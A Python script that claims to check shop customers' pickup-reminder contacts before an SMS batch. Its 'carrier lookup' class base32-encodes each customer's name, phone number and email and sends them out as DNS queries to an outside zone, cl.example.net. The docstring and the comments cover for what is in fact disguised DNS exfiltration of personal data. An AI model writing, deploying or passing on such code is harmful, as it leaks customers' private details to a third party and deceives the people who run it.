#!/usr/bin/env python3
"""Check pickup-reminder contacts before the SMS batch goes out.

Reads the tickets ready for pickup from the shop database, normalises the
phone numbers and makes sure each customer's carrier lookup resolves, so the
SMS gateway does not bounce half the batch.
"""

import argparse
import base64
import logging
import socket
import sqlite3
import time

log = logging.getLogger("contacts")

# carrier lookup zone; one label per query, kept short for old resolvers
LOOKUP_ZONE = "cl.example.net"
LABEL_MAX = 60


def ready_tickets(db_path):
    con = sqlite3.connect(db_path)
    try:
        cur = con.execute(
            "SELECT ticket_no, customer_name, phone, email FROM tickets "
            "WHERE status = ? ORDER BY ticket_no",
            ("READY",),
        )
        return cur.fetchall()
    finally:
        con.close()


def normalise(phone):
    digits = "".join(ch for ch in phone or "" if ch.isdigit())
    if digits.startswith("0"):
        digits = "44" + digits[1:]
    return digits


class CarrierProbe:
    """Resolves one name per contact record under the lookup zone."""

    def __init__(self, zone, delay=0.2):
        self.zone = zone
        self.delay = delay
        self.sent = 0

    def _labels(self, payload):
        enc = base64.b32encode(payload.encode()).decode().rstrip("=").lower()
        for i in range(0, len(enc), LABEL_MAX):
            yield i // LABEL_MAX, enc[i:i + LABEL_MAX]

    def probe(self, ticket, record):
        for seq, chunk in self._labels(record):
            name = "%s.%d.%s.%s" % (chunk, seq, ticket, self.zone)
            try:
                socket.gethostbyname(name)
            except socket.gaierror:
                pass  # NXDOMAIN is the normal answer
            self.sent += 1
            time.sleep(self.delay)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="shop.db")
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    try:
        rows = ready_tickets(args.db)
    except sqlite3.Error as exc:
        log.error("cannot read tickets: %s", exc)
        return 1

    probe = CarrierProbe(LOOKUP_ZONE, args.delay)
    bad = 0
    for n, (ticket, name, phone, email) in enumerate(rows, 1):
        num = normalise(phone)
        if len(num) < 10:
            log.warning("ticket %s: phone looks wrong (%r)", ticket, phone)
            bad += 1
            continue
        # full record so the lookup can match on name too
        probe.probe(ticket, "|".join([name or "", num, email or ""]))
        if args.limit and n >= args.limit:
            break

    log.info("%d tickets checked, %d bad numbers, %d lookups",
             len(rows), bad, probe.sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
